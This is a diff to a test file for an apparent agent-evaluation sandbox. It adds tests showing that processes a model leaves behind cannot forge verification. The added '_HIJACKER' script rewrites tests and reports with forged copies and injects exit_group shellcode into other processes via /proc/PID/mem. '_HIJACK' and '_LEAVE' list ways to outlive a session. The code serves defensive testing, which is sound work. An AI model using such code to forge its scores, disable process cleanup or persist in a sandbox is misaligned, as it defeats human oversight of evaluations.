@@ -12,6 +12,7 @@ code in pytest's own process, so that code can always forge the report (the xfai
 from __future__ import annotations
 
 import contextlib
+import platform
 import sys
 from collections.abc import AsyncIterator
 from typing import Literal, cast
@@ -20,12 +21,13 @@ import anyio
 import anyio.lowlevel
 import pytest
 
-from structenv import ToolExecutor
+from structenv import ExecRequest, ExecResult, ToolExecutor
 from structenv.abc import SandboxBackend
 from structenv.adapters import ExecTool
 from structenv.agent import AgentResult
 from structenv.examples._shell_data import SHELL_TASKS
 from structenv.examples.shell_tasks import ShellTasksEnv, ShellTasksEnvConfig
+from structenv.testing import child_processes
 from test_docker_support import docker_backend, docker_image
 from test_sandbox_support import local_backend
 
@@ -92,8 +94,16 @@ async def _play(
     return score, left.stdout, tests
 
 
-#: The slot's processes but its worker (PID 1) and this command's own.
-_OTHERS = "ps -eo pid=,ppid=,args= | awk -v me=$$ '$1 != 1 && $1 != me && $2 != me'"
+#: The slot's processes but its worker (PID 1) and this shell, with their command lines:
+#: bash builtins only (no ``ps`` in every image, and no process of its own to list).
+_OTHERS = r"""for d in /proc/[0-9]*; do
+  p=${d#/proc/}
+  { [ "$p" = 1 ] || [ "$p" = $$ ]; } && continue
+  read -r s < "$d/stat" 2>/dev/null || continue
+  a=
+  while IFS= read -r -d '' w; do a="$a $w"; done < "$d/cmdline" 2>/dev/null
+  echo "$p$a"
+done"""
 
 _BACKENDS = ["local", pytest.param("docker", marks=pytest.mark.docker)]
 
@@ -117,6 +127,121 @@ async def test_a_process_left_running_cannot_rewrite_the_verification(
     assert score == pytest.approx(HONEST), score
     assert left == b"", left.decode()
     assert tests == TASK.files["tests/test_calc.py"]
+
+
+#: Left running by the model (python, one process that spawns nothing): keeps forging the
+#: tests and the report, and takes over every process of the slot started after it that it
+#: can open (same uid, dumpable): SIGSTOP, then ``exit_group(0)`` written at its resume
+#: address through ``/proc/PID/mem``, then SIGCONT. A kill run as a command of the slot
+#: (``kill -KILL -1`` in a shell, as ``end_processes`` did) exits 0 having killed nothing.
+_HIJACKER = f"""import os, signal
+# nop; nop; xor edi, edi; mov eax, 231 (exit_group); syscall: from pc - 2 (a restarted
+# system call goes back to its syscall instruction) or from pc.
+CODE = bytes.fromhex("9090" "31ff" "b8e7000000" "0f05")
+tests, report = {_FORGED_TESTS!r}, {_FORGED_REPORT!r}
+me = os.getpid()
+seen = {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
+os.makedirs(".structenv", exist_ok=True)
+open(".hijacker-ready", "w").close()
+
+def take(pid):
+    try:
+        mem = os.open(f"/proc/{{pid}}/mem", os.O_RDWR)  # refused before its exec
+    except OSError:
+        return False
+    try:
+        os.kill(pid, signal.SIGSTOP)
+        while True:
+            with open(f"/proc/{{pid}}/stat") as f:
+                stat = f.read()
+            if stat[stat.rfind(")") + 2] in "tT":
+                break
+        with open(f"/proc/{{pid}}/syscall") as f:
+            pc = int(f.read().split()[-1], 16)
+        os.pwrite(mem, CODE, pc - 2)
+        os.kill(pid, signal.SIGCONT)
+    except OSError:
+        pass
+    finally:
+        os.close(mem)
+    return True
+
+while True:
+    for name, text in (("tests/test_calc.py", tests), (".structenv/report.xml", report)):
+        try:
+            with open(name, "w") as f:
+                f.write(text)
+        except OSError:
+            pass
+    for p in os.listdir("/proc"):
+        if p.isdigit() and int(p) not in seen and int(p) != me and take(int(p)):
+            seen.add(int(p))
+"""
+
+#: The model's commands: start the hijacker (double-forked, setsid) and wait until it runs.
+_HIJACK = [
+    "(setsid python3 hijacker.py >/dev/null 2>&1 </dev/null &)",
+    "until [ -e .hijacker-ready ]; do sleep 0.01; done",
+]
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the hijacker's code is x86-64")
+@pytest.mark.parametrize("kind", _BACKENDS)
+async def test_a_process_left_running_cannot_hijack_end_processes(
+    kind: str, request: pytest.FixtureRequest
+) -> None:
+    # With the kill run as a command of the slot, the hijacker made it exit 0 and stayed:
+    # the verification then read its forged tests and report (scored 1.0).
+    score, left, tests = await _play(kind, _HIJACK, request, {"hijacker.py": _HIJACKER})
+    assert left == b"", left.decode()
+    assert score == pytest.approx(HONEST), score
+    assert tests == TASK.files["tests/test_calc.py"]
+
+
+#: Every way a command leaves a process behind, and a file the model wrote.
+_LEAVE = [
+    "echo kept > kept.txt",
+    "(setsid sleep 1000 >/dev/null 2>&1 </dev/null &)",
+    "nohup sleep 1000 >/dev/null 2>&1 &",
+    "sleep 1000 >/dev/null 2>&1 & disown",
+    "( (sleep 1000 >/dev/null 2>&1 &) & )",
+    "setsid -f sh -c 'trap \"\" TERM HUP; exec sleep 1000' >/dev/null 2>&1",
+]
+
+
+@pytest.mark.parametrize("kind", _BACKENDS)
+async def test_end_processes_ends_everything_and_keeps_the_slot(
+    kind: str, request: pytest.FixtureRequest
+) -> None:
+    # Background, nohup, setsid and double-forked processes are all gone; a command still
+    # running comes back with an error; the files stay and the slot runs the next command.
+    if kind == "docker":
+        request.getfixturevalue("docker_image")
+    async with _backend(kind) as (b, _), ToolExecutor(b) as executor:
+        async with executor.trajectory("end") as traj:
+            tool = ExecTool(traj)
+            for command in _LEAVE:
+                assert (await tool.run(command)).ok
+            before = await tool.run(_OTHERS)
+            assert before.stdout.count(b"sleep 1000") >= 5, before.stdout.decode()
+            running: list[ExecResult] = []
+
+            async def run() -> None:
+                running.append(await tool.run("touch started; exec sleep 1000", time_limit=60))
+
+            async with anyio.create_task_group() as tg:
+                tg.start_soon(run)
+                assert (await tool.run("until [ -e started ]; do sleep 0.01; done")).ok
+                await tool.end_processes()
+            (ended,) = running
+            assert ended.exit_code is None and ended.error is not None, ended
+            assert "ended" in ended.error
+            left = await tool.run(_OTHERS)
+            assert left.ok and left.stdout == b"", left.stdout.decode()
+            assert await tool.read_file("kept.txt") == b"kept\n"
+            assert (await tool.run("echo again")).stdout == b"again\n"
+            await tool.end_processes()  # again, with nothing left: fine
+        assert b.statistics().leased == 0
 
 
 @pytest.mark.parametrize("steps", [0, 1, 2, 5, 10, 20, 40])
@@ -145,6 +270,53 @@ async def test_a_cancelled_end_processes_leaks_nothing(steps: int) -> None:
         async with executor.trajectory("after") as traj:
             left = await ExecTool(traj).run(_OTHERS)
         assert left.stdout == b"", left
+    assert child_processes() == []
+
+
+_CANCEL_STEPS = [
+    *(pytest.param("local", k, id=f"local-{k}") for k in (0, 1, 2, 3, 5, 8, 13, 40)),
+    *(pytest.param("docker", k, id=f"docker-{k}", marks=pytest.mark.docker) for k in (1, 8)),
+]
+
+
+@pytest.mark.parametrize(("kind", "steps"), _CANCEL_STEPS)
+async def test_a_cancelled_slot_end_processes_leaves_the_slot_usable(
+    kind: str, steps: int, request: pytest.FixtureRequest
+) -> None:
+    # Cancelled at the slot operation's await points (before the request is sent, while
+    # the worker kills, after): the lease, the files and the slot's reusability are as
+    # they were, the next command runs, and a later end_processes still ends everything.
+    if kind == "docker":
+        request.getfixturevalue("docker_image")
+    async with _backend(kind) as (b, _):
+        slot = await b.acquire_slot()
+        try:
+            await slot.exec(ExecRequest("echo kept > kept.txt; (setsid sleep 1000 &)"))
+            lease = slot.lease
+            with anyio.CancelScope() as scope:
+
+                async def cancel_after() -> None:
+                    for _ in range(steps):
+                        await anyio.lowlevel.checkpoint()
+                    scope.cancel()
+
+                async with anyio.create_task_group() as tg:
+                    tg.start_soon(cancel_after)
+                    await slot.end_processes()
+                    await anyio.sleep_forever()
+            assert scope.cancelled_caught
+            assert slot.reusable and slot.lease == lease
+            assert await slot.read_file("kept.txt") == b"kept\n"
+            assert (await slot.exec(ExecRequest("echo alive"))).stdout == b"alive\n"
+            assert await slot.end_processes() == []
+            left = await slot.exec(ExecRequest(_OTHERS))
+            assert left.stdout == b"", left.stdout.decode()
+        finally:
+            with anyio.move_on_after(30, shield=True):
+                await b.release_slot(slot, reusable=slot.reusable)
+        stats = b.statistics()
+        assert stats.leased == 0 and stats.acquires == stats.releases, stats
+    assert child_processes() == []
 
 
 #: Python code the model leaves for the verifier's interpreter: at its exit, after pytest
